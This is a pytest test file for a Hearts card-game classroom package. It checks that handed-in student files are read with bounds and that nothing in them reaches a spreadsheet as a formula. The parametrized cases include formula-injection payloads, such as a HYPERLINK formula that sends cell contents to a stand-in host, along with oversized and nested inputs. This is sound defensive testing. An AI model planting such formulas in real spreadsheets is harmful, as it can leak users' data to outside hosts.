"""Files a student or a stranger hands in: read with bounds (regular files only, size checked before
reading), duplicate JSON keys refused, and nothing from them reaching a spreadsheet as a formula."""

from __future__ import annotations

import csv
import json
import os
import re
import threading
import time
from pathlib import Path

import pytest

from hearts_lab import Game, Hand, RecordError, Rules
from hearts_lab.exercises import merge_results
from hearts_lab.exercises.results import FORMAT, ResultsFileError, printable, read_results, spreadsheet_safe
from hearts_lab.records import MAX_HAND_RECORD, read_record_file
from hearts_lab.widgets.stepper import load_hand

RULES = Rules.preset("standard", players=4)


#: A hang guard, not a speed check: a FIFO or /dev/zero read the wrong way blocks or grows forever, and the test
#: must then fail instead of hanging the suite. Any honest run returns in well under a second; the bound is
#: generous so that a loaded machine never fails it (what a hostile file may cost is counted, not timed:
#: tests below count reads and parses).
HANG = 120


def _within(seconds: float, call):
    """Run ``call`` in a daemon thread; fail (instead of hanging the suite) if it has not returned in ``seconds``."""
    box: dict[str, object] = {}

    def run():
        try:
            box["value"] = call()
        except BaseException as error:  # noqa: BLE001 - handed back to the test
            box["error"] = error

    thread = threading.Thread(target=run, daemon=True)
    thread.start()
    thread.join(seconds)
    assert not thread.is_alive(), f"still running after {seconds} s"
    if "error" in box:
        raise box["error"]  # type: ignore[misc]
    return box.get("value")


def _special_files(tmp_path: Path) -> list[Path]:
    fifo = tmp_path / "pipe.json"
    os.mkfifo(fifo)
    zero = tmp_path / "zero.json"
    zero.symlink_to("/dev/zero")
    folder = tmp_path / "folder.json"
    folder.mkdir()
    return [fifo, zero, folder]


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs FIFOs")
def test_record_files_that_never_end_are_refused_at_once(tmp_path):
    for path in _special_files(tmp_path):
        for source in (path, str(path)):
            with pytest.raises(RecordError, match="not a regular file"):
                _within(HANG, lambda source=source: load_hand(source))
        with pytest.raises(RecordError, match="not a regular file"):
            _within(HANG, lambda path=path: read_record_file(path, "game record", 1024))


def test_a_record_file_over_the_limit_is_refused_before_it_is_read(tmp_path):
    big = tmp_path / "big.json"
    with big.open("wb") as handle:
        handle.truncate(MAX_HAND_RECORD + 1)  # a sparse file: refusing it must not read it
    with pytest.raises(RecordError, match="limit") as refused:
        load_hand(big)
    assert refused.value.field == "size"


def _hand_record() -> dict:
    return json.loads(Hand.deal(RULES, seed=3).to_json())


def test_duplicate_keys_are_refused_in_hand_and_game_records():
    text = Hand.deal(RULES, seed=3).to_json()
    doubled = text.replace('"seed":', '"seed": 99, "seed":', 1)
    assert doubled != text
    with pytest.raises(RecordError, match="appears twice"):
        Hand.from_json(doubled)
    game = Game(RULES, seed=1).to_json()
    with pytest.raises(RecordError, match="appears twice"):
        Game.from_json(game.replace("{", '{"format": "x", ', 1))


def test_the_nesting_check_is_linear():
    start = time.process_time()
    for text in ('"' + '\\"' * 120_000, "[" * 120_000, '["a",' * 50_000):
        with pytest.raises(RecordError):
            Hand.from_json(text)
    assert time.process_time() - start < 1.0  # the old pre-scan took 11.5 s for 64 KB of the first


# -- results files ---------------------------------------------------------------------------------


def _results(student: str = "Ada", worksheet: str = "ws1") -> dict:
    return {"format": FORMAT, "worksheet": worksheet, "student": student, "exported": "2026-01-01T00:00:00+00:00",
            "questions": [{"question": "Q1", "title": "t", "status": "correct", "attempts": 1}]}


def test_hostile_results_files_are_skipped_with_a_reason(tmp_path):
    good = _results()
    (tmp_path / "good.json").write_text(json.dumps(good), encoding="utf-8")
    (tmp_path / "two_students.json").write_text(json.dumps(good)[:-1] + ', "student": "Eve"}', encoding="utf-8")
    (tmp_path / "digit.json").write_text(json.dumps(_results("Bo", "ws\u0663")), encoding="utf-8")
    (tmp_path / "nested.json").write_text("[" * 200_000, encoding="utf-8")
    (tmp_path / "digits.json").write_text(json.dumps(good).replace('"attempts": 1', '"attempts": ' + "9" * 5000), encoding="utf-8")
    (tmp_path / "field.csv").write_text("format,worksheet\n" + '"' + "x" * 200_000 + '",ws1\n', encoding="utf-8")
    (tmp_path / "huge.json").write_bytes(b" " * (300 * 1024))
    if hasattr(os, "mkfifo"):
        os.mkfifo(tmp_path / "pipe.json")
    table = _within(HANG, lambda: merge_results(tmp_path))
    assert [row["student"] for row in table.rows] == ["Ada"]
    reasons = dict(table.skipped)
    named = {"two_students.json", "digit.json", "nested.json", "digits.json", "field.csv", "huge.json"}
    assert set(reasons) == named | ({"pipe.json"} if hasattr(os, "mkfifo") else set())
    if hasattr(os, "mkfifo"):
        assert "pipe" in reasons["pipe.json"]  # named, not silently left out of the class table
    assert "appears twice" in reasons["two_students.json"] and "worksheet" in reasons["digit.json"]
    assert "nests deeper" in reasons["nested.json"] and "digits" in reasons["digits.json"]
    assert "limit" in reasons["huge.json"]
    for path in ("nested.json", "field.csv"):
        with pytest.raises(ResultsFileError):
            read_results(tmp_path / path)


@pytest.mark.parametrize("name", ['=HYPERLINK("http://x.example/?"&A1,"Ada")', "+1+1", "-2+3", "@SUM(A1)", "\tTab", "\rCR"])
def test_a_formula_in_a_student_name_reaches_the_spreadsheet_as_text(tmp_path, name):
    for fmt in ("json", "csv"):
        folder = tmp_path / fmt
        folder.mkdir()
        if fmt == "json":
            (folder / "x.json").write_text(json.dumps(_results(name)), encoding="utf-8")
        else:
            with (folder / "x.csv").open("w", newline="", encoding="utf-8") as handle:
                writer = csv.writer(handle)
                writer.writerow(["format", "worksheet", "student", "exported", "question", "title", "status", "attempts"])
                writer.writerow([FORMAT, "ws1", name, "t", "Q1", "t", "correct", "1"])
        table = merge_results(folder)
        # A control character (tab, CR) is shown as a space first (printable), so it cannot start a formula.
        assert [row["student"] for row in table.rows] == [spreadsheet_safe(printable(name))]
        assert table.rows[0]["student"] in ("'" + name, " " + name[1:])
        out = table.to_csv(folder / "class.csv")
        with out.open(newline="", encoding="utf-8") as handle:
            cells = [cell for row in csv.reader(handle) for cell in row]
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells), cells


def test_spreadsheet_safe_leaves_ordinary_text_alone():
    assert spreadsheet_safe("Ada Lovelace") == "Ada Lovelace" and spreadsheet_safe("") == ""
    assert spreadsheet_safe("'=1") == "'=1"


def test_a_game_record_with_more_hands_than_any_game_is_refused_before_replaying_them():
    from hearts_lab.bots import RandomBot, play_hand
    from hearts_lab.records import MAX_RECORD_HANDS

    game = Game(RULES, seed=1)
    hand = game.next_hand()
    play_hand(hand, [RandomBot(s) for s in range(4)])
    game.add_hand(hand)
    data = json.loads(game.to_json())
    data["hands"] = data["hands"] * (MAX_RECORD_HANDS + 1)
    start = time.process_time()
    with pytest.raises(RecordError) as refused:
        Game.from_json(json.dumps(data))
    assert refused.value.field == "hands" and time.process_time() - start < 1.0  # 5,000 hands took 5 s to refuse


def test_a_100_kb_answer_cell_is_read_once_not_once_per_line(tmp_path, monkeypatch):
    # 7,000 answer lines in one cell (96 KB, under the 100,000-character cell limit): each used to re-split the
    # whole cell (ast.get_source_segment), about 12 minutes on the teacher's machine; now a linear read. The work
    # is counted, not timed: how often the whole cell is parsed or split into lines while the class is graded.
    import ast
    import re

    from hearts_lab.exercises import classroom
    from hearts_lab.exercises.classroom import Class, _answer_cells, grade

    secret = "correct horse battery staple, 2026"
    nb = Class(secret, ["Ada Lovelace"]).copy("Ada Lovelace", "ws1")
    big = "q1 = a()\n" * 4000 + "q2 = binomial(4, 2)\n" * 2999 + "q2 = binomial(52, 13) / 4\n"
    nb["cells"].append({"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None, "source": big})
    (tmp_path / "ada.ipynb").write_text(json.dumps(nb), encoding="utf-8")
    reads = {"parsed": 0, "split": 0, "segments": 0}
    parse, findall, segment = ast.parse, re.findall, ast.get_source_segment

    def counting_parse(source, *args, **kwargs):
        reads["parsed"] += source == big
        return parse(source, *args, **kwargs)

    def counting_segment(source, *args, **kwargs):
        reads["segments"] += source == big
        return segment(source, *args, **kwargs)

    class CountingRe:  # the classroom module's re, counting the times the whole cell is split into lines
        def __getattr__(self, name):
            return getattr(re, name)

        @staticmethod
        def findall(pattern, text, *args):
            reads["split"] += text == big
            return findall(pattern, text, *args)

    monkeypatch.setattr(ast, "parse", counting_parse)
    monkeypatch.setattr(ast, "get_source_segment", counting_segment)
    monkeypatch.setattr(classroom, "re", CountingRe())
    cells = _answer_cells(nb)
    assert cells["Q1"] == (False, None) and cells["Q2"] == (True, 158753389900)  # the sympy number the kernel holds
    assert reads == {"parsed": 1, "split": 1, "segments": 0}, reads  # once for 7,000 answer lines
    reads.update(parsed=0, split=0)
    grades = grade(tmp_path, secret)
    assert reads["parsed"] <= 2 and reads["split"] <= 2 and reads["segments"] == 0, reads
    rows = {r["question"]: r for r in grades.rows()}
    assert rows["Q1"]["correct"] == "unreadable"


def test_a_file_naming_another_student_never_replaces_their_report_silently(tmp_path):
    # Mallory's file says it is Ada's, exported "later"; another names "Ada Lovelace" with a zero-width space; a
    # third has a name that is not UTF-8 and no student (the merge and its CSV used to fail on it).
    (tmp_path / "ws1_Ada.json").write_text(json.dumps(_results("Ada Lovelace")), encoding="utf-8")
    forged = {**_results("Ada Lovelace"), "exported": "9999-12-31T00:00:00+00:00"}
    forged["questions"] = [{**forged["questions"][0], "status": "incorrect"}]
    (tmp_path / "ws1_Mallory.json").write_text(json.dumps(forged), encoding="utf-8")
    (tmp_path / "ws1_Mal2.json").write_text(json.dumps(_results("Ada Lovelace\u200b")), encoding="utf-8")
    (tmp_path / os.fsdecode(b"caf\xe9.json")).write_text(json.dumps(_results("")), encoding="utf-8")
    table = merge_results(tmp_path)
    assert sorted(row["student"] for row in table.rows) == ["Ada Lovelace", "caf\\xe9"]
    reasons = dict(table.skipped)
    assert set(reasons) == {"ws1_Ada.json", "ws1_Mal2.json"}
    assert "replaced by ws1_Mal2.json" in reasons["ws1_Ada.json"]  # the file sorted after it, same export time
    assert "replaced by ws1_Mallory.json" in reasons["ws1_Mal2.json"]  # the forged later export wins, but named
    out = table.to_csv(tmp_path / "class.csv").read_text(encoding="utf-8")
    assert "caf\\xe9" in out
    repr(table).encode("utf-8")


@pytest.mark.parametrize("text", ["n1;=1+1.ipynb", "Ada;=1+1", "Ada,+1", "Ada\t-1", "Ada|@SUM(A1)"])
def test_a_formula_after_a_field_separator_reaches_the_spreadsheet_as_text(tmp_path, text):
    # A semicolon-locale spreadsheet splits "Ada;=1+1" into "Ada" and "=1+1", and would run the second.
    from hearts_lab.exercises.classroom import safe_cell

    for safe in (spreadsheet_safe(text), safe_cell(text)):
        pieces = re.split(r"[;,\t|]", safe)
        assert not any(piece.startswith(("=", "+", "-", "@")) for piece in pieces), pieces
    (tmp_path / "x.json").write_text(json.dumps(_results(text)), encoding="utf-8")
    out = merge_results(tmp_path).to_csv(tmp_path / "class.csv").read_text(encoding="utf-8")
    assert not any(piece.startswith(("=", "+", "-", "@")) for piece in re.split(r"[;,\t|\n]", out)), out


def _copy_with_cells(secret: str, worksheet: str, texts: list[str]) -> dict:
    from hearts_lab.exercises.classroom import Class

    nb = Class(secret, ["Ada Lovelace"]).copy("Ada Lovelace", worksheet)
    nb["cells"] += [{"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None, "source": t} for t in texts]
    return nb


def test_a_notebook_of_huge_code_cells_is_skipped_naming_the_limit_before_its_trees_are_built(tmp_path, monkeypatch):
    # rev-h3 #1 (a): 48 cells of 100,000 characters of [1,1,...] (4.8 MB) took 30-46 s and 1 GB, every cell's syntax
    # tree kept. Counted, not timed: how many big cells are parsed, and how many nodes are walked.
    import ast

    from hearts_lab.exercises.classroom import MAX_CODE, MAX_CODE_NODES, grade

    secret = "correct horse battery staple, 2026"
    many = "[" + "1," * 49_990 + "]\n"
    (tmp_path / "many.ipynb").write_text(json.dumps(_copy_with_cells(secret, "ws1", [many] * 48)), encoding="utf-8")
    dense = "x = [" + "[1]," * 18_000 + "]\n"  # 72 KB a cell, 3 nodes for 4 characters: 2 cells are over MAX_CODE_NODES
    (tmp_path / "dense.ipynb").write_text(json.dumps(_copy_with_cells(secret, "ws1", [dense] * 2)), encoding="utf-8")
    counted = {"parsed": 0, "walked": 0}
    parse, walk = ast.parse, ast.walk

    def counting_parse(source, *args, **kwargs):
        counted["parsed"] += len(source) > 10_000
        return parse(source, *args, **kwargs)

    def counting_walk(node):
        for n in walk(node):
            counted["walked"] += 1
            yield n

    monkeypatch.setattr(ast, "parse", counting_parse)
    monkeypatch.setattr(ast, "walk", counting_walk)
    grades = grade(tmp_path, secret)
    skipped = dict(grades.skipped)
    assert skipped["many.ipynb"].startswith("not graded: its code cells hold 4,80") and f"more than the {MAX_CODE:,}" in skipped["many.ipynb"]
    assert f"more than {MAX_CODE_NODES:,} pieces of Python" in skipped["dense.ipynb"], skipped
    assert counted["parsed"] == 2 and counted["walked"] < 2 * 60_000, counted  # dense's two cells; many's none


def test_the_teacher_copies_the_biggest_honest_notebooks_are_graded(tmp_path):
    # rev-h3 #1: the limits on code and reading leave every honest notebook graded: the teacher copies (answers,
    # outputs and all) as one student's hand-ins.
    from pathlib import Path as P

    from hearts_lab.exercises.classroom import MAX_CODE, MAX_CODE_NODES, WORKSHEETS, grade

    teacher = P(__file__).resolve().parents[1] / "exercises" / "teacher"
    for ws, stem in WORKSHEETS.items():
        nb = json.loads((teacher / f"{stem}.ipynb").read_text(encoding="utf-8"))
        nb["metadata"]["hearts_lab"] = {"worksheet": ws, "student": "Ada Lovelace", "variant": None}
        (tmp_path / f"{stem}.ipynb").write_text(json.dumps(nb), encoding="utf-8")
        code = "".join("".join(c["source"]) for c in nb["cells"] if c["cell_type"] == "code")
        assert len(code) * 20 < MAX_CODE and len(code) < MAX_CODE_NODES
    grades = grade(tmp_path, "correct horse battery staple, 2026")
    assert grades.skipped == [] and len(grades.submissions) == len(WORKSHEETS)
    assert not any("reading budget" in r["flags"] for r in grades.rows())


def test_a_notebook_of_costly_answers_is_read_within_one_budget_each_text_once(tmp_path, monkeypatch):
    # rev-h3 #1 (b): answers that each spend a reading's whole budget before they are refused, stored outputs
    # recording the same texts: each text was read three times (the check, and both sides of "a different answer"),
    # 1-2 s each, 26 s for one small notebook. Counted: sandbox steps and parses per text.
    from hearts_lab.exercises import checks, sandbox
    from hearts_lab.exercises.classroom import NOTEBOOK_READING, grade

    secret = "correct horse battery staple, 2026"
    nb = _copy_with_cells(secret, "ws3", [])
    slow = [f"Sum(Sum(1/(k*j+{n}),(k,0,99)),(j,0,99))" for n in range(1, 9)]  # each a different text: no reading shared
    for cell in nb["cells"]:
        text = "".join(cell["source"])
        for i, q in enumerate(f"q{n}" for n in range(1, 9)):
            if cell["cell_type"] == "code" and text.startswith(f"{q} = ..."):
                cell["source"] = f"{q} = {slow[i]!r}"
            if cell["cell_type"] == "code" and text.startswith(f"ws3.check_{q}("):
                cell["outputs"] = [{"output_type": "execute_result", "execution_count": 1, "metadata": {}, "data": {
                    "text/plain": "x", checks.MIME_TYPE: {"worksheet": "ws3", "question": q.upper(), "status": "incorrect",
                                                          "attempt": 1, "answer": slow[i]}}}]
    (tmp_path / "ada.ipynb").write_text(json.dumps(nb), encoding="utf-8")
    counted = {"steps": 0, "parsed": {}}
    step, parse = sandbox._Reader.step, sandbox._parse

    def counting_step(self, depth):
        counted["steps"] += 1
        return step(self, depth)

    def counting_parse(text):
        counted["parsed"][text] = counted["parsed"].get(text, 0) + 1
        return parse(text)

    monkeypatch.setattr(sandbox._Reader, "step", counting_step)
    monkeypatch.setattr(sandbox, "_parse", counting_parse)
    sandbox._read_once.cache_clear()
    grades = grade(tmp_path, secret)
    assert grades.skipped == []
    assert counted["steps"] <= NOTEBOOK_READING + 8, counted["steps"]  # one notebook's budget (and a step for each refusal)
    # Each text is parsed at most three times (the cell, the check, the comparison) and, once the budget is spent,
    # refused at its first step; a text read to the end is remembered (tests/test_answer_sandbox.py counts that).
    assert all(n <= 3 for n in counted["parsed"].values()), counted["parsed"]
    rows = {r["question"]: r for r in grades.rows()}
    spent = [q for q, r in rows.items() if "reading budget" in r["flags"]]
    assert spent and all(rows[q]["correct"] == "unreadable" for q in spent), rows
    assert all(r["correct"] in ("incorrect", "unreadable") for r in rows.values())


def test_a_huge_answer_expression_is_read_as_computed_in_one_pass(tmp_path, monkeypatch):
    # rev-h4 #3: q1 = ((((...(1, 1, ..., 1, x),)...) 98 tuple levels around 48,000 entries took 13 s: at each level the
    # whole subtree was run through ast.literal_eval and walked for its depth; a tuple of 11,500 sums, each read in
    # the sandbox, took 2.6 s. Counted, not timed: an answer line over MAX_ANSWER_NODES is never literal_eval'd or
    # read in the sandbox, and the notebook's nodes are walked a few times, not once per level.
    import ast

    from hearts_lab.exercises import checks, sandbox
    from hearts_lab.exercises.classroom import MAX_ANSWER_NODES, TOO_LARGE, grade

    secret = "correct horse battery staple, 2026"
    nested = "(" * 98 + "(" + "1," * 48_000 + "x)" + ",)" * 98
    sums = "(" + ",".join(f"{k}+1" for k in range(10_000, 21_500)) + ")"
    for name, answer in (("nested", nested), ("sums", sums)):
        nb = _copy_with_cells(secret, "ws3", [])
        for cell in nb["cells"]:
            text = "".join(cell["source"])
            if cell["cell_type"] == "code" and text.startswith("q1 = ..."):
                cell["source"] = f"q1 = {answer}"
            if cell["cell_type"] == "code" and text.startswith("ws3.check_q1("):
                cell["outputs"] = [{"output_type": "execute_result", "execution_count": 1, "metadata": {}, "data": {
                    "text/plain": "x", checks.MIME_TYPE: {"worksheet": "ws3", "question": "Q1", "status": "incorrect",
                                                          "attempt": 1, "answer": 7}}}]
        (tmp_path / name / "ada.ipynb").parent.mkdir()
        (tmp_path / name / "ada.ipynb").write_text(json.dumps(nb), encoding="utf-8")
    counted = {"big literal_eval": 0, "children": 0, "sandbox steps": 0}
    literal_eval, children, step = ast.literal_eval, ast.iter_child_nodes, sandbox._Reader.step

    def counting_literal_eval(node):
        counted["big literal_eval"] += isinstance(node, ast.AST) and (node.end_col_offset or 0) - node.col_offset > 10_000
        return literal_eval(node)

    def counting_children(node):
        counted["children"] += 1
        return children(node)

    def counting_step(self, depth):
        counted["sandbox steps"] += 1
        return step(self, depth)

    monkeypatch.setattr(ast, "literal_eval", counting_literal_eval)
    monkeypatch.setattr(ast, "iter_child_nodes", counting_children)
    monkeypatch.setattr(sandbox._Reader, "step", counting_step)
    for name in ("nested", "sums"):
        grades = grade(tmp_path / name, secret)
        assert grades.skipped == []
        q1 = next(r for r in grades.rows() if r["question"] == "Q1")
        assert q1["correct"] == "incorrect" and TOO_LARGE in q1["flags"], q1  # the recorded 7, with the note
    assert MAX_ANSWER_NODES < 48_000 and counted["big literal_eval"] == 0, counted
    assert counted["children"] < 10 * (2 * 48_000 + 4 * 11_500) and counted["sandbox steps"] < 10_000, counted


def _deep(levels: int) -> object:
    value: object = 4
    for _ in range(levels):
        value = [value]
    return value


def _set(path: tuple[str, ...], value: object):
    """An edit of the stored data of the question ``path[0]``: the field at ``path[1:]`` set to ``value``."""
    def edit(data):
        where = data[path[0]]
        for key in path[1:-1]:
            where = where[key]
        where[path[-1]] = value(where.get(path[-1])) if callable(value) else value
    return edit


#: Stored records a student (or a stranger) could write into a capstone's Q2 and Q3 outputs, and what the re-run
#: row's note says of each: the rules are read as hostile input, the plan within worksheet 5's own limits.
HOSTILE_RERUN_RECORDS = {
    "rules records not an object": (_set(("Q3", "made", "rules_records"), "standard"), "an object of rule fields, not str"),
    "base rules missing": (_set(("Q3", "made", "rules_records"), {"house": None}), "base: an object of rule fields, not NoneType"),
    "a field of the wrong type": (_set(("Q3", "made", "rules_records", "base", "players"), "four"), "base: players: expected a whole number"),
    "a huge value": (_set(("Q3", "made", "rules_records", "house", "target"), 10**100), "house: The rules record is not valid JSON: a number of 101 digits is too long"),
    "a value out of range": (_set(("Q3", "made", "rules_records", "base", "decks"), 10**6), "base: decks: expected a whole number from 1 to 2"),
    "an unknown field": (_set(("Q3", "made", "rules_records", "house", "jokers"), 2), "house: jokers: not a rule field"),
    "NaN": (_set(("Q3", "made", "rules_records", "base", "moon_reward"), float("nan")), "NaN is not a number a record may hold"),
    "a megabyte of name": (_set(("Q3", "made", "rules_records", "base", "name"), "x" * 1_000_000), "the limit is 4,096"),
    "deeply nested": (_set(("Q3", "made", "rules_records", "base", "removed"), _deep(600)), "nests deeper than 8 levels"),
    "other rules under the same fingerprint": (_set(("Q3", "made", "rules_records", "house", "first_trick_points"), False),
                                               "house rules do not match the fingerprint recorded beside them (edited?)"),
    "a fingerprint that does not match": (_set(("Q3", "made", "rules"), "0123456789abcdef"),
                                          "base rules do not match the fingerprint recorded beside them (edited?)"),
    "runs of a billion hands": (_set(("Q3", "made", "hands"), 10**9), "the stored runs (Q3's record) or plan (Q2's) are not ones the checks record (edited?)"),
    "runs with the sampling bots": (_set(("Q3", "made", "policy"), "expert"), "the stored runs (Q3's record) or plan (Q2's) are not ones the checks record (edited?)"),
    "runs of hands as text": (_set(("Q3", "made", "hands"), "10000"), "the stored runs (Q3's record) or plan (Q2's) are not ones the checks record (edited?)"),
}


#: Recorded values of Q4 and Q5 that are not numbers a check records: compared as missing, never a crash.
HOSTILE_REPORTED = {
    "an effect of thousands of digits": _set(("Q4", "made", "effect"), 10**4000),
    "an effect that is text": _set(("Q4", "made", "effect"), "0.01"),
    "an interval of text and a truth value": _set(("Q5", "made", "interval"), ["low", True]),
    "an interval of three numbers": _set(("Q5", "made", "interval"), [0.1, 0.2, 0.3]),
}


@pytest.mark.parametrize("case", list(HOSTILE_REPORTED))
def test_hostile_recorded_effects_and_intervals_are_not_compared_and_never_crash(case, tmp_path):
    from test_exercises_classroom import ROSTER, SECRET, _save
    from test_exercises_classroom_rerun import honest_capstone

    from hearts_lab.exercises import classroom
    from hearts_lab.exercises.classroom import Class, grade

    _save(tmp_path, "ada.ipynb", honest_capstone(Class(SECRET, ROSTER), "Ada Lovelace", edit=HOSTILE_REPORTED[case]))
    grades = _within(HANG, lambda: grade(tmp_path, SECRET, roster=ROSTER))
    assert grades.skipped == []
    row = next(r for r in grades.rows() if r["question"] == classroom.RERUN_ROW)
    assert row["correct"] == "not verified" and ("Q4 records no effect" in row["why"]) != ("Q5 records no interval" in row["why"]), row


@pytest.mark.parametrize("case", list(HOSTILE_RERUN_RECORDS))
def test_hostile_capstone_records_give_a_note_on_the_re_run_row_and_never_crash_or_hang(case, tmp_path):
    """The capstone's re-run row reads Q3's stored rules and Q2's stored plan from the handed-in file: wrong types, huge
    values, unknown fields, a fingerprint that does not match, deep nesting or an absurd plan give a note naming what is
    wrong (its own short form), never a crash, a skipped notebook or a run nobody asked for."""
    from test_exercises_classroom import ROSTER, SECRET, _save
    from test_exercises_classroom_rerun import honest_capstone

    from hearts_lab.exercises import classroom
    from hearts_lab.exercises.classroom import Class, grade

    edit, said = HOSTILE_RERUN_RECORDS[case]
    _save(tmp_path, "ada.ipynb", honest_capstone(Class(SECRET, ROSTER), "Ada Lovelace", edit=edit))
    grades = _within(HANG, lambda: grade(tmp_path, SECRET, roster=ROSTER))
    assert grades.skipped == []
    row = next(r for r in grades.rows() if r["question"] == classroom.RERUN_ROW)
    assert row["correct"] == "not re-run" and said in row["flags"], row
    assert classroom._short_note(row["flags"]).startswith("not re-run: "), row["flags"]


@pytest.mark.parametrize("metric", [["moon rate"], {"moon rate": 1}], ids=["a list", "an object"])
def test_a_recorded_metric_that_is_not_text_is_passed_over_not_a_failed_re_run(metric, tmp_path):
    """Review helper-28, should-fix 5: a Q4 metric edited into a list or an object made the whole re-run 'could not be
    made (TypeError)'; it is passed over like any unreadable metric, and Q5's or Q2's is used."""
    from test_exercises_classroom import ROSTER, SECRET, _save
    from test_exercises_classroom_rerun import honest_capstone

    from hearts_lab.exercises import classroom
    from hearts_lab.exercises.classroom import Class, grade

    _save(tmp_path, "ada.ipynb", honest_capstone(Class(SECRET, ROSTER), "Ada Lovelace", edit=_set(("Q4", "made", "metric"), metric)))
    row = next(r for r in grade(tmp_path, SECRET, roster=ROSTER).rows() if r["question"] == classroom.RERUN_ROW)
    assert "could not be made" not in row["flags"] and row["correct"] == "recorded values agree", row


def test_an_answer_line_beside_a_check_that_recorded_nothing_is_not_called_edited():
    """Review helper-28, should-fix 4: an older notebook whose Q5 stored no interval (an end 0 was not recorded then)
    got 'its interval = ... line holds ..., not the value Q5's check recorded': nothing was recorded to differ from."""
    import ast

    from hearts_lab.exercises import classroom

    cells = [(ast.parse(text), text) for text in ("interval = (-0.00225, 0)", "effect = 0.05")]
    older = {"Q5": {"answer": None, "made": {"seed": 1}}, "Q4": {"answer": None}}
    assert classroom._cells_not_recorded(cells, older) == {}
    assert set(classroom._cells_not_recorded(cells, {"Q5": {"made": {"interval": [-0.1, 0.2]}}})) == {"Q5"}
